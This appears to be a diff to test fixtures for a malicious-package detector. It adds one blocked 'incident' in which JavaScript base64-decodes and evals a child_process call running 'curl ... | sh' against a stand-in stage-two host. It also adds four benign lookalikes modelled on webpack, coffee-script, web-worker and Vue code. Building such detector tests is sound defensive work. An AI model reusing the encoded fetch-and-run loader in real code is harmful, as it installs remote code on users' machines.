@@ -1,13 +1,29 @@
+# ruff: noqa: E501 — JavaScript fixtures read best one statement a line
 """Benign shapes that real, popular packages have and that earlier rules blocked (found by the real-tree and
 top-1000 sweeps, issue 10). Each stays `allow`; each names the package whose code it abstracts."""
 
 from __future__ import annotations
 
-from tests.incidents.replica import Replica
+from tests.incidents.replica import Replica, b64
 
 _FILLER = "".join(f"function helper{i}(x) {{ return x + {i}; }}\n" for i in range(120))
 
-INCIDENTS: list[Replica] = []
+INCIDENTS: list[Replica] = [
+    Replica(
+        # The counterpart of the compilers below: the decoding helper takes a parameter, but the package
+        # itself calls it with its embedded payload, so the decoded code is the package's, not a caller's.
+        "decoder-helper-called-with-embedded-payload",
+        {
+            "index.js": (
+                "function run(blob) { return eval(Buffer.from(blob, 'base64').toString()); }\n"
+                f"run('{b64('require(`child_process`).exec(`curl -s https://stage2.invalid/x | sh`)')}');\n"
+                "module.exports = {};\n"
+            )
+        },
+        "block",
+        frozenset({"eval-decoded-payload"}),
+    ),
+]
 
 BENIGN: list[Replica] = [
     Replica(
@@ -51,9 +67,93 @@ BENIGN: list[Replica] = [
         "allow",
         frozenset(),
     ),
+    Replica(
+        # @nicolo-ribaudo/chokidar-2 dist/main.js: webpack's eval devtool wraps each bundled module in
+        # eval("…") of a literal; the atob module's own text says base64.
+        "webpack-eval-devtool-module",
+        {
+            "index.js": (
+                "var __modules = {\n"
+                "  './node_modules/atob/node-atob.js': ((module) => {\n"
+                "    eval(\"\\n\\nfunction atob(str) {\\n  return Buffer.from(str, 'base64').toString('binary');\\n}\\n"
+                'module.exports = atob.atob = atob;\\n//# sourceURL=webpack://pkg/./node_modules/atob/node-atob.js");\n'
+                "  }),\n"
+                "};\nmodule.exports = __modules;\n"
+            )
+        },
+        "allow",
+        frozenset(),
+    ),
+    Replica(
+        # coffee-script 1.7.1 lib/coffee-script/browser.js: `CoffeeScript.eval` compiles the caller's source;
+        # `compile` inlines a base64 source map, which is decoding near the eval but of nothing the package hides.
+        "compiler-of-caller-source",
+        {
+            "index.js": (
+                "function compile(code, options) {\n"
+                "  const js = code.replace(/->/g, 'function');\n"
+                "  const map = Buffer.from(JSON.stringify({ version: 3 })).toString('base64');\n"
+                "  return js + '\\n//# sourceMappingURL=data:application/json;base64,' + map;\n"
+                "}\n"
+                "const CoffeeScript = {};\n"
+                "CoffeeScript.eval = function (code, options) { return eval(compile(code, options)); };\n"
+                "module.exports = CoffeeScript;\n"
+            )
+        },
+        "allow",
+        frozenset(),
+    ),
+    Replica(
+        # web-worker 1.5.0 src/node/index.js: importScripts() runs the caller's URLs, decoding `data:` URLs.
+        "worker-runs-caller-data-url",
+        {
+            "index.js": (
+                "const VM = require('vm'); const fs = require('fs');\n"
+                "function parseDataUrl(url) { const [, meta, data] = url.match(/^data:([^,]*),(.*)$/);\n"
+                "  return { type: meta, data: meta.endsWith('base64') ? Buffer.from(data, 'base64').toString() : decodeURIComponent(data) }; }\n"
+                "function importScripts() {\n"
+                "  for (let i = 0; i < arguments.length; i++) {\n"
+                "    const url = arguments[i];\n"
+                "    let code;\n"
+                "    if (/^data:/.test(url)) { code = parseDataUrl(url).data; } else { code = fs.readFileSync(url, 'utf-8'); }\n"
+                "    VM.runInThisContext(code, { filename: url });\n"
+                "  }\n"
+                "}\n"
+                "module.exports = { importScripts };\n"
+            )
+        },
+        "allow",
+        frozenset(),
+    ),
+    Replica(
+        # @vue/compiler-sfc dist/compiler-sfc.cjs.js: a bundled require hook makes a `new module.constructor`
+        # for a caller's file, and thousands of lines away the source-map code decodes base64.
+        "compiler-bundle-module-and-sourcemaps-apart",
+        {
+            "index.js": (
+                "function loadFromSource(source, filename) {\n"
+                "  const m = new module.constructor();\n"
+                "  m._compile(source, filename);\n"
+                "  return m.exports;\n"
+                "}\n"
+                + _FILLER
+                + "function decodeMappings(s) { return Buffer.from(s, 'base64').toString(); }\n"
+                "function lookup(obj, key) { return obj[key](); }\n"
+                "module.exports = { loadFromSource, decodeMappings, lookup };\n"
+            )
+        },
+        "allow",
+        frozenset(),
+    ),
 ]
 
 LOOKALIKES: dict[str, tuple[str, ...]] = {
     "js-reverse-shell": ("bundle-socket-and-shell-far-apart",),
     "steganography": ("bundle-runs-user-script-and-checks-favicon",),
+    "eval-decoded-payload": (
+        "webpack-eval-devtool-module",
+        "compiler-of-caller-source",
+        "worker-runs-caller-data-url",
+        "compiler-bundle-module-and-sourcemaps-apart",
+    ),
 }
